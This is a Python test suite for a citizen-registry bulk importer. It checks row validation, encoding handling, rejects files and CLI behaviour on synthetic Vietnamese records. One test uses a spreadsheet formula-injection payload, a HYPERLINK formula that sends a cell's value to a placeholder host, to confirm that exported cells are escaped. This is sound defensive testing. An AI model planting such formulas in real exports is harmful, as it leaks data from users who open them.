"""Bulk import: what lands in the registry, what is rejected and why, re-runs, file hygiene."""

from __future__ import annotations

import csv
import json
import re
import unicodedata
from datetime import UTC
from datetime import date
from datetime import datetime
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func
from sqlalchemy import select
from sqlalchemy import text

from idsvc import db
from idsvc.audit.models import AuditEvent
from idsvc.errors import Conflict
from idsvc.registry import service
from idsvc.registry.imports import importer
from idsvc.registry.imports import reader
from idsvc.registry.imports.fileformat import COLUMNS
from idsvc.registry.imports.rows import RowChecker
from idsvc.registry.models import Citizen
from idsvc.registry.models import CitizenNumber
from idsvc.registry.models import Household
from idsvc.registry.models import ImportBatch
from idsvc.registry.models import Relative

DEMO = Path(__file__).resolve().parents[2] / "fixtures" / "demo_citizens.csv"


def person(**values: str) -> dict[str, str]:
    """A valid row (a Hà Nội man born 1990) with ``values`` changed."""
    row = {c: "" for c in COLUMNS}
    row.update(citizen_id="001090000001", full_name="Đỗ Văn Khoa", date_of_birth="1990-06-01", sex="M",
               birth_registration_province="001", permanent_commune="00070", current_commune="00070",
               household_id="", relationship_to_head="", ethnicity="Kinh", religion="Không",
               nationality="VN", status="alive", date_of_death="")
    row.update(values)
    return row


def write_csv(path: Path, rows: list[dict[str, str]], *, columns: tuple[str, ...] = COLUMNS,
              encoding: str = "utf-8", newline: str = "\n", delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as f:
        writer = csv.writer(f, lineterminator=newline, delimiter=delimiter)
        writer.writerow(columns)
        for row in rows:
            writer.writerow([row.get(c, "") for c in columns])
    return path


def read_rejects(path: Path | None) -> dict[int, str]:
    assert path is not None
    with path.open(encoding="utf-8-sig") as f:
        return {int(r["line"]): r["reason"] for r in csv.DictReader(f)}


def counts() -> dict[str, int]:
    s = db.session()
    return {m.__tablename__: s.scalar(select(func.count()).select_from(m)) or 0
            for m in (Citizen, CitizenNumber, Relative, Household, ImportBatch)}


def run(path: Path, tmp_path: Path, **kwargs) -> importer.ImportResult:
    result = importer.import_file(path, actor="test", rejects_path=tmp_path / "rejects.csv", **kwargs)
    db.session().expire_all()
    return result


def test_demo_file_lands_whole_with_households_relatives_and_provenance(app_ctx, tmp_path) -> None:
    result = run(DEMO, tmp_path)
    assert (result.rows_read, result.imported, result.present, result.rejected) == (13, 13, 0, 0)
    assert result.rejects_path is None and not (tmp_path / "rejects.csv").exists()

    an = service.get_citizen_by_number("001080012345")
    assert an.full_name == "Nguyễn Văn An" and an.name_folded == "nguyen van an"
    assert (an.birth_year, an.birth_month, an.birth_day, an.sex) == (1980, 3, 15, "M")
    assert an.household is not None and an.household.number == "DEMO-00070-0001"
    assert an.household.head_id == an.id and an.household.commune_code == "00070"
    assert {(r.kind, r.id_number) for r in an.relatives} == {("spouse", "001185004321"), ("mother", "001152000333")}
    assert [n.number for n in an.numbers] == ["001080012345"]
    batch = db.session().get(ImportBatch, an.import_batch_id)
    assert batch is not None and batch.rows_imported == 13 and batch.finished_at is not None
    assert an.import_line == 2
    for stamp in (an.created_at, an.updated_at, an.numbers[0].issued_at, an.household.created_at):
        assert stamp.tzinfo is not None and abs(datetime.now(UTC) - stamp) < timedelta(minutes=5)

    hoa = service.get_citizen_by_number("001152000333")
    assert hoa.date_of_birth.precision == "year" and hoa.birth_month is None
    giang = service.get_citizen_by_number("048040000444")
    assert giang.status == "deceased" and giang.date_of_death.isoformat() == "2024-12-01"
    assert service.get_citizen_by_number("232301000777").birth_registration_code == "232"  # born in Japan
    household = service.get_citizen_by_number("001313000111").household
    assert household is not None and household.head_id == an.id
    event = db.session().scalars(select(AuditEvent).where(AuditEvent.action == "registry:import:run")).one()
    assert event.data["imported"] == 13 and "001080012345" not in json.dumps(event.data)


def test_importing_the_same_file_again_changes_nothing(app_ctx, tmp_path) -> None:
    run(DEMO, tmp_path)
    before = counts()
    stamps = sorted(db.session().execute(select(Citizen.id_number, Citizen.version, Citizen.updated_at)).all())
    again = run(DEMO, tmp_path)
    assert (again.imported, again.present, again.rejected, again.resumed) == (0, 13, 0, True)
    assert counts() == before
    assert sorted(db.session().execute(select(Citizen.id_number, Citizen.version, Citizen.updated_at)).all()) == stamps


BAD_ROWS = {
    # line in the file: (row, words the reason must contain)
    3: (person(citizen_id="01090000002"), "dropped the leading 0"),
    4: (person(citizen_id="003090000003"), "neither a province code"),
    5: (person(citizen_id="001190000004"), "should be 0"),
    6: (person(citizen_id="001091000005"), "should be 90"),
    7: (person(citizen_id="001090000006", permanent_commune="99999"), "commune 99999 does not exist"),
    8: (person(citizen_id="001023000007", date_of_birth="2023-02-30"), "has no day 30"),
    9: (person(citizen_id="001290000008", date_of_birth="2090-01-01"), "in the future"),
    10: (person(citizen_id="001090000009", date_of_birth="01/06/1990"), "write YYYY-MM-DD"),
    11: (person(citizen_id="001090000001", full_name="Đỗ Văn Khoa Khác"), "same ID number as line 2"),
    12: (person(citizen_id="001090000010", status="deceased"), "date_of_death: required"),
    13: (person(citizen_id="001090000011", date_of_death="2020-01-01"), "status is alive"),
    14: (person(citizen_id="001090000012", status="deceased", date_of_death="1980-01-01"), "before the date of birth"),
    15: (person(citizen_id="001090000013", ethnicity="Viking"), "54 ethnic groups"),
    16: (person(citizen_id="001090000014", household_id="H1", relationship_to_head="boss"), "not one of head"),
    17: (person(citizen_id="001090000015", full_name="Đỗ Văn\u200b Khoa"), "invisible control character"),
    18: (person(citizen_id="001090000016", full_name=""), "full name is required"),
    19: (person(citizen_id="001090000017", sex="X"), "not M or F"),
    20: (person(citizen_id="001090000018", birth_registration_province="079"), "must be the same"),
    21: (person(citizen_id="001090000019", father_id="12345"), "father_id"),
    # Digits of other scripts pass str.isdigit(): as numbers they would be other people's.
    22: (person(citizen_id="001090\uff11\uff12\uff13\uff14\uff15\uff16"), "only the digits 0-9"),
    23: (person(citizen_id="001090000020", mother_id="001185\u0661\u0662\u0663\u0664\u0665\u0666"),
         "mother_id: an ID number has only the digits 0-9"),
    24: (person(citizen_id="001090000021", phone="\uff10912345678"), "is not a telephone number"),
    25: (person(citizen_id="001090000022", full_name="\uac01" * 67), "longer than 200 characters without diacritics"),
    26: (person(citizen_id="1090000023"), "dropped the leading 00"),
    27: (person(citizen_id="001090000024", full_name="Đỗ\x1fVăn Khoa"), "invisible control character"),
    # A name is letters and a few marks: "=2+3" would be a formula wherever the name is exported.
    28: (person(citizen_id="001090000025", full_name="=2+3"), "full_name: a name cannot contain '=', '2' or '+'"),
    29: (person(citizen_id="001090000026", mother_name="Lê Thị 2"), "mother_name: a name cannot contain '2'"),
    30: (person(citizen_id="001090000027", spouse_name="Lê@Thị Hà"), "spouse_name: a name cannot contain '@'"),
    31: (person(citizen_id="001090000028", father_name="-Đỗ Văn Cha"), "father_name: a name begins with a letter"),
    32: (person(citizen_id="001090000029", other_names="Tý/Tèo"), "other_names: a name cannot contain '/'"),
}


def test_every_bad_row_is_rejected_with_its_line_and_a_reason_and_the_rest_imported(app_ctx, tmp_path) -> None:
    rows = [person()] + [row for _, (row, _) in sorted(BAD_ROWS.items())] + [person(citizen_id="001090000099")]
    path = write_csv(tmp_path / "people.csv", rows)
    result = run(path, tmp_path)
    rejects = read_rejects(result.rejects_path)
    assert set(rejects) == set(BAD_ROWS)
    for line, (_, words) in BAD_ROWS.items():
        assert words in rejects[line], (line, rejects[line])
    assert (result.rows_read, result.imported, result.rejected) == (len(rows), 2, len(BAD_ROWS))
    assert counts()["citizen"] == 2
    with (tmp_path / "rejects.csv").open(encoding="utf-8-sig") as f:
        first = next(csv.DictReader(f))
    assert first["citizen_id"] == "01090000002" and first["full_name"] == "Đỗ Văn Khoa"  # the row, to fix


def test_the_rejects_file_escapes_formulas_and_a_corrected_one_imports_them_back(app_ctx, tmp_path) -> None:
    from idsvc.csvsafe import FORMULA_STARTS

    rows = [person(citizen_id="001090000001", full_name='=HYPERLINK("http://x.example/?"&A1,"Mở")'),
            person(citizen_id="001090000002", sex="X", phone="+84 912 345 678", religion="-", household_id="@H1",
                   full_name="Y-Moan Ê-đê")]
    first = run(write_csv(tmp_path / "people.csv", rows), tmp_path)
    assert (first.imported, first.rejected) == (0, 2)
    with first.rejects_path.open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Mở\")" in cells and "'+84 912 345 678" in cells
    assert "'-" in cells and "'@H1" in cells
    corrected = tmp_path / "corrected.csv"
    corrected.write_text(first.rejects_path.read_text(encoding="utf-8-sig").replace(",X,", ",M,"), encoding="utf-8")
    again = importer.import_file(corrected, actor="test", rejects_path=tmp_path / "rejects-2.csv")
    assert (again.imported, again.rejected) == (1, 1)  # the formula is still no name
    assert "full_name: a name cannot contain '='" in read_rejects(again.rejects_path)[2]
    fixed = service.get_citizen_by_number("001090000002")
    assert (fixed.phone, fixed.religion, fixed.household.number) == ("+84912345678", "-", "@H1")


def test_duplicates_across_chunks_and_against_the_registry(app_ctx, tmp_path, create_citizen) -> None:
    create_citizen(id_number="001090000050", full_name="Đỗ Văn Khoa", birth_year=1990, birth_month=6, birth_day=1)
    create_citizen(id_number="001090000051", full_name="Lý Thị Mai", birth_year=1990, birth_month=6, birth_day=1)
    retired = create_citizen(id_number="001090000052", full_name="Đỗ Văn Khoa")
    service.reissue_number(retired, actor="test", reason="typing error")
    db.session().commit()
    rows = [person(citizen_id=f"001090000{n:03d}") for n in range(1, 6)]
    rows += [person(citizen_id="001090000002", full_name="Người Khác"),   # line 7: dup of line 3, other chunk
             person(citizen_id="001090000050"),                           # line 8: same person, already there
             person(citizen_id="001090000051"),                           # line 9: number held by someone else
             person(citizen_id="001090000052")]                           # line 10: retired number
    result = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=3)
    rejects = read_rejects(result.rejects_path)
    assert rejects[7] == "citizen_id: the same ID number as line 3 of this file"
    assert "another name, date of birth or sex" in rejects[9]
    assert "retired" in rejects[10]
    assert set(rejects) == {7, 9, 10}
    assert (result.imported, result.present) == (5, 1)
    assert service.get_citizen_by_number("001090000051").full_name == "Lý Thị Mai"  # untouched


def test_hygiene_bom_nfd_whitespace_crlf_and_spreadsheet_codes(app_ctx, tmp_path) -> None:
    nfd = unicodedata.normalize("NFD", "  Nguyễn   Thị  Ðào ")
    path = write_csv(tmp_path / "excel.csv", [person(full_name=nfd, permanent_commune="70", current_commune=" 70 ",
                                                     ethnicity="hmong", sex="f", citizen_id="001190000001")],
                     encoding="utf-8-sig", newline="\r\n")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    result = run(path, tmp_path)
    assert result.imported == 1, read_rejects(result.rejects_path)
    citizen = service.get_citizen_by_number("001190000001")
    assert citizen.full_name == "Nguyễn Thị Đào" and unicodedata.is_normalized("NFC", citizen.full_name)
    assert citizen.permanent_commune_code == "00070" and citizen.ethnicity == "Mông" and citizen.sex == "F"
    assert [c.id_number for c in service.find_by_name("nguyen thi dao")] == ["001190000001"]


def test_a_semicolon_separated_file_imports(app_ctx, tmp_path) -> None:
    rows = [person(place_of_birth="Hà Nội, Việt Nam"), person(citizen_id="001090000002", hometown="Huế; Đà Nẵng"),
            person(citizen_id="001090000003", sex="X")]
    path = write_csv(tmp_path / "excel-vi.csv", rows, delimiter=";", encoding="utf-8-sig", newline="\r\n")
    assert path.read_text(encoding="utf-8-sig").splitlines()[0] == ";".join(COLUMNS)
    with path.open("a", encoding="utf-8") as f:
        f.write("001090000004;Only;three\r\n")
    result = run(path, tmp_path)
    assert (result.imported, result.rejected) == (2, 2)
    assert service.get_citizen_by_number("001090000001").place_of_birth == "Hà Nội, Việt Nam"
    assert service.get_citizen_by_number("001090000002").hometown == "Huế; Đà Nẵng"
    rejects = read_rejects(result.rejects_path)
    assert "not M or F" in rejects[4]
    assert "a semicolon inside a value needs double quotes" in rejects[5]


@pytest.mark.parametrize("reading_process", [False, True], ids=["in-process", "reading-process"])
@pytest.mark.parametrize(("encoding", "bom"), [("utf-16-le", "\ufeff"), ("utf-16-be", "\ufeff")])
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_utf16_file_with_its_byte_order_mark_imports(app_ctx, tmp_path, monkeypatch, encoding, bom, fmt,
                                                       reading_process) -> None:
    if reading_process:
        monkeypatch.setattr(importer, "PARALLEL_FROM_LINES", 1)
    rows = [person(full_name="Nguyễn Thị Đào"), person(citizen_id="001090000002", full_name="Lê Văn 𠀋"),
            person(citizen_id="001090000003", sex="X")]
    path = tmp_path / f"unicode.{fmt}"
    if fmt == "csv":
        text = "".join(",".join(row) + "\r\n" for row in [COLUMNS, *([r[c] for c in COLUMNS] for r in rows)])
    else:
        text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows)
    path.write_bytes((bom + text).encode(encoding))
    assert reader.inspect(path).lines == len(rows) + (fmt == "csv")
    result = run(path, tmp_path)
    assert (result.imported, result.rejected) == (2, 1), read_rejects(result.rejects_path)
    assert service.get_citizen_by_number("001090000001").full_name == "Nguyễn Thị Đào"
    assert service.get_citizen_by_number("001090000002").full_name == "Lê Văn 𠀋"  # a surrogate pair in UTF-16
    assert "not M or F" in read_rejects(result.rejects_path)[3 + (fmt == "csv")]


def test_a_broken_utf16_file_is_a_clear_error(app_ctx, tmp_path) -> None:
    path = tmp_path / "broken.csv"
    path.write_bytes(("\ufeff" + ",".join(COLUMNS) + "\n").encode("utf-16-le") + b"\x00\xd8A\x00")  # a lone half
    with pytest.raises(reader.UnreadableFile, match="begins as UTF-16 text but is not: line 2"):
        run(path, tmp_path)


def test_a_file_that_is_not_utf8_is_a_clear_error_and_writes_nothing(app_ctx, tmp_path) -> None:
    path = write_csv(tmp_path / "legacy.csv", [person(full_name="Do Van Khoa"),
                                                         person(citizen_id="001090000002", full_name="Lê Văn Hà")],
                     encoding="cp1258")  # a legacy Windows code page
    with pytest.raises(reader.UnreadableFile, match=r"not UTF-8 text: line 2 has the byte 0xf4 .* Save the file as"):
        run(path, tmp_path)
    assert counts()["citizen"] == 0 and counts()["import_batch"] == 0


@pytest.mark.parametrize(("header", "message"), [
    (tuple(c for c in COLUMNS if c != "sex"), "lacks the columns sex"),
    ((*COLUMNS, "shoe_size"), "unknown columns shoe_size"),
    (("citizen_id", *COLUMNS), "names these columns twice: citizen_id"),
    ((*COLUMNS, ""), f"column {len(COLUMNS) + 1} of the header has no name"),
    (tuple(person().values()), "has no header line"),
])
def test_a_bad_header_is_a_clear_error(app_ctx, tmp_path, header, message) -> None:
    path = write_csv(tmp_path / "bad.csv", [person()], columns=header)
    with pytest.raises(reader.UnreadableFile, match=message):
        run(path, tmp_path)
    assert counts()["import_batch"] == 0


def test_a_corrected_rejects_file_imports_as_it_is(app_ctx, tmp_path) -> None:
    path = write_csv(tmp_path / "people.csv", [person(), person(citizen_id="001090000002", sex="X")])
    first = run(path, tmp_path)
    assert (first.imported, first.rejected) == (1, 1)
    assert first.rejects_path.read_bytes().startswith(b"\xef\xbb\xbfline,reason,citizen_id,")  # UTF-8 to spreadsheets
    corrected = tmp_path / "corrected.csv"
    # As a spreadsheet saves it: the byte-order mark kept, lines ending in CR LF.
    corrected.write_bytes(first.rejects_path.read_bytes().replace(b",X,", b",M,").replace(b"\n", b"\r\n"))
    again = importer.import_file(corrected, actor="test", rejects_path=tmp_path / "rejects-2.csv")
    assert (again.imported, again.rejected) == (1, 0)
    assert service.get_citizen_by_number("001090000002").sex == "M"


def test_malformed_lines_are_rejected_not_fatal(app_ctx, tmp_path) -> None:
    csv_path = tmp_path / "ragged.csv"
    write_csv(csv_path, [person()])
    with csv_path.open("a", encoding="utf-8") as f:
        f.write("001090000002,Only,three\n\n")
    jsonl = tmp_path / "people.jsonl"
    jsonl.write_text("\n".join([
        json.dumps(person(citizen_id="001090000003"), ensure_ascii=False),
        "{not json",
        json.dumps({**person(citizen_id="001090000004"), "citizen_id": 1090000004}),
        "[1, 2]",
        '{"citizen_id": "001090000005", "citizen_id": "001090000006", "full_name": "Đỗ Văn Khoa"}',
        '{"citizen_id": "001090000007", "full_name": "Đỗ',
    ]) + "\n", encoding="utf-8")
    first = run(csv_path, tmp_path)
    assert "has 3 values but the header has" in read_rejects(first.rejects_path)[3]
    second = run(jsonl, tmp_path)
    rejects = read_rejects(second.rejects_path)
    assert "not valid JSON" in rejects[2] and "must be text in double quotes" in rejects[3]
    assert "not a JSON object" in rejects[4]
    assert "the keys citizen_id are given twice" in rejects[5]
    assert "Unterminated string starting at column 45" in rejects[6]
    json_line_ends = tmp_path / "cut.jsonl"
    json_line_ends.write_text('{"citizen_id": "001090000008", "full_name":\n', encoding="utf-8")
    assert "Expecting value at column 44" in read_rejects(run(json_line_ends, tmp_path).rejects_path)[1]
    assert (first.imported, second.imported) == (1, 1)


def test_csv_and_jsonl_of_the_same_rows_stage_the_same_values(tmp_path) -> None:
    rows = list(csv.DictReader(DEMO.open(encoding="utf-8")))
    jsonl = tmp_path / "demo.jsonl"
    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    checker = RowChecker(frozenset(r["permanent_commune"] for r in rows) | {"00004"}, date(2026, 1, 1))
    from_csv = [checker.check(r.values) for r in reader.read_rows(DEMO, "csv")]
    from_jsonl = [checker.check(r.values) for r in reader.read_rows(jsonl, reader.detect_format(jsonl))]
    assert from_csv == from_jsonl and len(from_csv) == 13


def test_cli_import_prints_a_summary_and_show_prints_the_record(runner, tmp_path) -> None:
    out = runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "r.csv")])
    assert out.exit_code == 0, out.output
    assert "13 imported, 0 already in the registry, 0 rejected" in out.output
    shown = runner.invoke(args=["registry", "show", "079172000666"])
    assert shown.exit_code == 0
    assert "Võ Thị Kim Phượng" in shown.output and "1972-11 (month)" in shown.output
    assert "27139 Phường Xuân Hòa" in shown.output
    missing = runner.invoke(args=["registry", "show", "001099999999"])
    assert missing.exit_code == 1 and "no citizen with this number (001099999999)" in missing.output


def test_cli_show_names_a_malformed_number_the_source_and_the_countries_in_aligned_columns(runner, tmp_path) -> None:
    assert runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "r.csv")]).exit_code == 0
    for typed, reason in [("01080012345", "an ID number has exactly 12 digits; this one has 11"),
                          ("0010800123 45", "an ID number has only the digits 0-9"),
                          ("003080012345", "the first three digits 003 are neither a province code")]:
        out = runner.invoke(args=["registry", "show", typed])
        assert out.exit_code == 1 and f"Error: not a valid ID number: {reason}" in out.output, out.output
        assert "*" not in out.output

    shown = runner.invoke(args=["registry", "show", "232301000777"])  # born abroad, registered in Japan
    assert shown.exit_code == 0, shown.output
    lines = shown.output.splitlines()
    labels = [label for label, _ in service_rows(runner, "232301000777")]
    width = max(map(len, labels))
    for line, label in zip(lines, labels, strict=False):
        assert line.startswith(label) and line[width:width + 2] == "  " and line[width + 2] != " ", line
    record = dict((line[:width].rstrip(), line[width + 2:]) for line in lines[:len(labels)])
    assert record["Nơi đăng ký khai sinh / Birth registered"] == "abroad: 232 (Japan / Nhật Bản)"
    assert record["Quốc tịch / Nationality"] == "VN (Viet Nam / Việt Nam)"
    assert re.fullmatch(r"import of demo_citizens\.csv, line 10, on \d{4}-\d\d-\d\d \d\d:\d\d UTC by system:cli "
                        r"\(batch \d+\)", record["Nguồn / Source"]), record["Nguồn / Source"]

    with runner.app.app_context():
        child = service.register_birth(actor="staff:clerk-1", reason="Birth certificate 9/2026",
                                       full_name="Lê Minh Khôi", date_of_birth="2026-01-02", sex="M",
                                       registered_abroad_code="232")
        service.update_citizen(child, {"nationality": "jp"}, actor="staff:clerk-1", reason="Nationality decision 3")
        number = child.id_number
        db.session().commit()
    born = runner.invoke(args=["registry", "show", number]).output
    assert "abroad: 232 (Japan / Nhật Bản)" in born and "JP (Japan / Nhật Bản)" in born
    assert re.search(r"Nguồn / Source +birth_registration on \d{4}-\d\d-\d\d \d\d:\d\d UTC by staff:clerk-1: "
                     r"Birth certificate 9/2026", born), born


def service_rows(runner, number: str) -> list[tuple[str, str]]:
    with runner.app.app_context():
        return service.describe(service.get_citizen_by_number(number))


def test_the_country_table_names_every_code_of_birth_registration_abroad() -> None:
    from idsvc.registry import countries
    from idsvc.registry import idnumbers

    assert set(countries.ABROAD) == idnumbers.ABROAD_CODES
    assert countries.abroad("232") == "232 (Japan / Nhật Bản)" and countries.abroad("999") == "999"
    assert countries.nationality("FR") == "FR (France / Pháp)" and countries.nationality("XK") == "XK"


def test_cli_import_exit_status_tells_all_imported_from_some_rejected_from_refused(runner, tmp_path) -> None:
    good = write_csv(tmp_path / "good.csv", [person()])
    some_bad = write_csv(tmp_path / "some-bad.csv", [person(citizen_id="001090000002"),
                                                     person(citizen_id="001090000003", sex="X")])
    bad_header = write_csv(tmp_path / "bad-header.csv", [person()], columns=("citizen_id", "full_name"))
    args = ["--rejects", str(tmp_path / "r.csv")]
    assert runner.invoke(args=["registry", "import", str(good), *args]).exit_code == 0
    assert runner.invoke(args=["registry", "import", str(good), *args]).exit_code == 0  # already present
    rejected = runner.invoke(args=["registry", "import", str(some_bad), *args])
    assert rejected.exit_code == 1 and "1 imported, 0 already in the registry, 1 rejected" in rejected.output
    assert "rejected rows and the reasons" in rejected.output
    refused = runner.invoke(args=["registry", "import", str(bad_header), *args])
    assert refused.exit_code == 2 and "the header lacks the columns" in refused.output


def test_cli_import_of_an_unreadable_file_is_an_error_message_not_a_traceback(runner, tmp_path) -> None:
    bad = tmp_path / "latin1.csv"
    bad.write_bytes(b"citizen_id,full_name\n001090000001,Nguy\xe9n\n")
    out = runner.invoke(args=["registry", "import", str(bad)])
    assert out.exit_code == 2 and "Traceback" not in out.output
    assert "not UTF-8 text: line 2 has the byte 0xe9" in out.output
    gone = runner.invoke(args=["registry", "import", str(tmp_path / "nope.csv")])
    assert gone.exit_code == 2 and "does not exist" in gone.output
    nowhere = runner.invoke(args=["registry", "import", str(DEMO), "--rejects", str(tmp_path / "no" / "r.csv")])
    assert nowhere.exit_code == 2 and "rejects file cannot be written" in nowhere.output
    assert "Traceback" not in nowhere.output


def test_an_actor_name_the_audit_trail_cannot_keep_is_refused_before_anything_is_written(runner, tmp_path) -> None:
    out = runner.invoke(args=["registry", "import", str(DEMO), "--actor", "x" * 101, "--rejects",
                              str(tmp_path / "r.csv")])
    assert out.exit_code == 2 and "the actor (who runs the import) is 1 to 100 characters" in out.output
    assert runner.invoke(args=["registry", "show", "079172000666"]).exit_code == 1  # nobody imported


@pytest.mark.parametrize("chunk_size", [2, 100])
def test_a_household_has_one_head_in_a_file(app_ctx, tmp_path, chunk_size) -> None:
    rows = [person(citizen_id="001090000001", household_id="H1", relationship_to_head="head"),
            person(citizen_id="001090000002", household_id="H1", relationship_to_head="spouse"),
            person(citizen_id="001090000003", household_id="H2", relationship_to_head="head"),
            person(citizen_id="001090000004", household_id="H1", relationship_to_head="head")]
    result = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=chunk_size)
    assert read_rejects(result.rejects_path) == {
        5: "relationship_to_head: household H1 already has its head on line 2 of this file"}
    assert (result.imported, result.rejected) == (3, 1)
    head = service.get_citizen_by_number("001090000001")
    assert head.household.head_id == head.id
    again = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=chunk_size)  # a re-run agrees
    assert (again.imported, again.present, again.rejected) == (0, 3, 1)


def test_a_quote_left_open_costs_its_own_line_only(app_ctx, tmp_path) -> None:
    rows = [person(citizen_id=f"001090000{n:03d}") for n in range(1, 8)]
    path = write_csv(tmp_path / "people.csv", rows)
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[3] = lines[3].replace("Đỗ Văn Khoa", '"Đỗ Văn Khoa', 1)  # the quote never closes
    lines[5] = lines[5].replace("Đỗ Văn Khoa", '"Đỗ Văn\nKhoa"', 1)  # a value running over two lines
    path.write_text("".join(lines), encoding="utf-8")
    result = run(path, tmp_path)
    rejects = read_rejects(result.rejects_path)
    assert set(rejects) == {4, 6, 7}
    assert "double quote opens a value that is not closed on this line" in rejects[4]
    assert "double quote opens a value that is not closed on this line" in rejects[6]
    # Every other line was read and imported: nothing after the open quote disappeared.
    assert (result.rows_read, result.imported, result.rejected) == (8, 5, 3)


def test_the_rejects_file_never_replaces_the_input_nor_an_earlier_list_of_a_refused_run(runner, tmp_path) -> None:
    people = tmp_path / "people.csv"
    people.write_bytes(DEMO.read_bytes())
    same = runner.invoke(args=["registry", "import", str(people), "--rejects", str(tmp_path / "." / "people.csv")])
    assert same.exit_code == 2 and "is the file being imported" in same.output
    assert people.read_bytes() == DEMO.read_bytes()
    assert runner.invoke(args=["registry", "import", str(people)]).exit_code == 0
    earlier = tmp_path / "people.csv.rejects.csv"
    earlier.write_text("line,reason\n3,kept from an earlier run\n")
    refused = runner.invoke(args=["registry", "import", str(people), "--initial-load"])
    assert refused.exit_code == 2 and "An initial load is for an empty registry" in refused.output
    assert earlier.read_text() == "line,reason\n3,kept from an earlier run\n"


def schema_drift(url: str) -> list[object]:
    from alembic.autogenerate import compare_metadata
    from alembic.migration import MigrationContext

    from idsvc import models  # noqa: F401  (every table in the metadata)
    from idsvc.db import Base
    from idsvc.db import make_engine

    engine = make_engine(url)
    try:
        with engine.connect() as conn:
            return list(compare_metadata(MigrationContext.configure(conn), Base.metadata))
    finally:
        engine.dispose()


def test_initial_load_fills_an_empty_registry_and_leaves_the_schema_whole(app_ctx, tmp_path) -> None:
    population = DEMO.with_name("demo_population.csv")
    result = run(population, tmp_path, initial_load=True)
    assert (result.imported, result.rejected) == (3000, 0)
    assert counts()["citizen"] == counts()["citizen_number"] == 3000
    db.session().rollback()  # SQLite: let go of this session's lock before looking at the schema
    assert schema_drift(app_ctx.config["DATABASE_URL"]) == []  # indexes and foreign keys are back
    with pytest.raises(Conflict, match="for an empty registry"):
        run(DEMO, tmp_path, initial_load=True)
    assert run(DEMO, tmp_path).imported == 13  # and ordinary imports go on as before


def test_a_stopped_initial_load_leaves_nothing(app_ctx, tmp_path) -> None:
    with pytest.raises(importer.ImportStopped, match="nothing was imported"):
        run(DEMO, tmp_path, initial_load=True, should_stop=lambda: True)
    assert counts()["citizen"] == counts()["import_batch"] == 0
    db.session().rollback()
    assert schema_drift(app_ctx.config["DATABASE_URL"]) == []


BROKEN_ROWS = {
    "foreign key": "INSERT INTO household (number, commune_code, created_at) VALUES ('H-1', '99999', '2026-01-01')",
    "check": "INSERT INTO citizen (id, id_number, full_name, name_folded, birth_year, sex, birth_registration_code, "
             "nationality, status, version, created_at, updated_at) VALUES (1, '001090000001', 'A', 'a', 1990, 'X', "
             "'001', 'VN', 'alive', 1, '2026-01-01', '2026-01-01')",
}


@pytest.mark.parametrize("broken", sorted(BROKEN_ROWS))
def test_initial_load_checks_constraints_in_bulk_and_leaves_them_enforced(app_ctx, tmp_path, broken) -> None:
    from sqlalchemy import text

    from idsvc.registry.imports.bulkwrite import BulkWriter

    engine = db.get_db().engine
    # SQLite checks both in bulk before the commit; PostgreSQL validates the rebuilt foreign keys,
    # and keeps enforcing CHECK constraints row by row during the load.
    expected = {("sqlite", "foreign key"): "a row of household refers to a missing row of commune",
                ("sqlite", "check"): "a row of citizen breaks the check ck_citizen_sex",
                ("postgresql", "foreign key"): 'violates foreign key constraint "fk_household_commune_code_commune"',
                ("postgresql", "check"): 'violates check constraint "ck_citizen_sex"'}[engine.dialect.name, broken]
    with engine.connect() as conn:
        writer = BulkWriter(conn)
        writer.tune(initial_load=True)
        with pytest.raises(Exception, match=re.escape(expected)), conn.begin():
            writer.defer_constraints()
            conn.execute(text(BROKEN_ROWS[broken]))
            writer.restore_constraints()
        writer.untune()
        if conn.dialect.name == "sqlite":
            assert conn.exec_driver_sql("PRAGMA foreign_keys").scalar() == 1
            assert conn.exec_driver_sql("PRAGMA ignore_check_constraints").scalar() == 0
    assert counts()["household"] == counts()["citizen"] == 0
    db.session().rollback()
    assert schema_drift(app_ctx.config["DATABASE_URL"]) == []


def test_imported_values_keep_their_types_and_backslashes(app_ctx, tmp_path) -> None:
    """NULLs, integers and backslashes come out as checked, also through the COPY text (PostgreSQL)."""
    from sqlalchemy import text

    rows = [person(citizen_id=f"001090000{n:03d}", household_id=f"H{n % 2}", relationship_to_head="head" if n < 2
                   else "child", father_name="Đỗ Văn Cha" if n % 2 else "", date_of_birth="1990" if n == 3 else
                   "1990-06-01") for n in range(6)]
    rows.append(person(citizen_id="001090000099", place_of_birth="Đỗ Văn \\N", hometown="C:\\dir",
                       father_id="001060000001", father_name="Đỗ Văn Cha", household_id="H\\9"))
    result = run(write_csv(tmp_path / "people.csv", rows), tmp_path, chunk_size=3)  # the odd row alone in its chunk
    assert result.imported == len(rows), read_rejects(result.rejects_path)
    odd = service.get_citizen_by_number("001090000099")
    assert (odd.place_of_birth, odd.hometown, odd.household.number) == ("Đỗ Văn \\N", "C:\\dir", "H\\9")
    assert [(r.kind, r.id_number, r.full_name) for r in odd.relatives] == [("father", "001060000001", "Đỗ Văn Cha")]
    year_only = service.get_citizen_by_number("001090000003")
    assert (year_only.birth_year, year_only.birth_month, year_only.birth_day) == (1990, None, None)
    assert year_only.household is not None and year_only.household.head is not None
    child = service.get_citizen_by_number("001090000005")
    assert [(r.kind, r.id_number, r.full_name) for r in child.relatives] == [("father", None, "Đỗ Văn Cha")]
    if db.session().get_bind().dialect.name == "sqlite":
        types = db.session().execute(text(
            "SELECT DISTINCT typeof(id), typeof(birth_year), typeof(birth_month), typeof(household_id), "
            "typeof(import_line), typeof(import_batch_id), typeof(version), typeof(id_number), typeof(phone), "
            "typeof(permanent_commune_code) FROM citizen WHERE birth_month IS NOT NULL AND household_id IS NOT NULL"
        )).all()
